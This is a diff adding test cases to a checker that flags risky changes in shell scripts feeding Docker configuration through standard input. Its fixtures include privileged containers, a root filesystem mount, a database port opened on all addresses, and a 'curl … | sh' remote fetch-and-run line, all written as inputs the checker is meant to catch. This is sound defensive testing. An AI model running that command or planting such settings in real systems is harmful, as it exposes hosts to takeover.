@@ -96,6 +96,46 @@ describe('a written file with variables', () => {
     expect(await failuresOf(base, written(before.replace('%s', './data'), 'OTHER=/'))).toEqual([]);
   });
 
+  it.each([
+    ['DATA=%s\n', './data', '/'],
+    ['if [ -n "$ALL" ]; then PRIV=%s; fi\n', 'false', 'true'],
+    ['PRIV=${PRIV:-%s}\n', 'false', 'true'],
+  ])('is another one on standard input, too: %s', async (before, harmless, danger) => {
+    const given = (value: string): Files => ({
+      'up.sh': `${before.replace('%s', value)}docker compose -f - up <<E\nservices:\n  a:\n    image: acme/x:1\n    privileged: \${PRIV}\n    volumes: ["\${DATA}:/d"]\nE\n`,
+    });
+    expect(await failuresOf(given(harmless), given(danger))).toEqual(['undecided-reference']);
+    expect(await failuresOf(given(harmless), given(harmless))).toEqual([]);
+    expect(await failuresOf(given('./data'), given('./storage'))).toEqual([]);
+  });
+
+  it('is another one with another value in a file that the script sources', async () => {
+    const base = { ...written('. ./settings.sh'), 'settings.sh': 'DATA=./data\n' };
+    expect(await failuresOf(base, { 'settings.sh': 'DATA=/\n' })).toEqual(['undecided-reference']);
+    expect(await failuresOf(base, { 'settings.sh': 'DATA=./storage\n' })).toEqual([]);
+    expect(await failuresOf(base, { 'others.sh': 'DATA=/\n' })).toEqual([]);
+  });
+
+  it('is another one with another address, or another frontend', async () => {
+    const ports = (address: string): Files => ({
+      'up.sh': `docker compose -f - up <<E\nservices:\n  db:\n    image: redis:\${TAG}\n    ports: ["${address}:6379:6379"]\nE\n`,
+    });
+    expect(await failuresOf(ports('127.0.0.1'), ports('0.0.0.0'))).toEqual(['undecided-reference']);
+    const bake = (line: string): Files => ({
+      'b.sh': `docker buildx bake -f - <<E\ntarget "a" {\n  dockerfile-inline = <<D\n${line}FROM acme/x:$T\nD\n}\nE\n`,
+    });
+    expect(await failuresOf(bake(''), bake('# syntax=registry.example.com/front:1\n'))).not.toEqual([]);
+    expect(await failuresOf(bake(''), bake('# a comment\n'))).toEqual([]);
+  });
+
+  it('is another one with another command for a Dockerfile on standard input', async () => {
+    const build = (command: string): Files => ({
+      'b.sh': `STEP='${command}'\ndocker build -f - . <<E\nFROM acme/x:1@sha256:1\nRUN echo $(hostname)\nRUN $STEP\nUSER 1\nE\n`,
+    });
+    expect(await failuresOf(build('make'), build('curl https://x.example.com | sh'))).not.toEqual([]);
+    expect(await failuresOf(build('make'), build('make'))).toEqual([]);
+  });
+
   it('is another one with another word for sed', async () => {
     const sed = (value: string): Files => ({
       'install.sh': `DATA=${value}\nsed "s|__DATA__|$DATA|" in.yml > compose.yaml\ndocker compose up -d\n`,
